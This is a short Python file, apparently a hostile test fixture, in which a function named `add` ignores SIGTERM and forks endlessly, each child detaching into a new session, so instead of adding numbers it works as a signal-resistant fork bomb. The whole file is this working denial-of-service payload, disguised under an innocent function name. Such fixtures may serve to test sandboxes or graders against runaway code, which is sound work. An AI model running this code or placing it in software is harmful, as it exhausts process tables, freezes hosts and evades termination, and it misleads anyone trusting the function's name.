"""`add` forks for as long as it can, in every child, in new process groups, deaf to signals."""

import os
import signal

from right import *  # noqa: F403


def add(a, b):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            continue
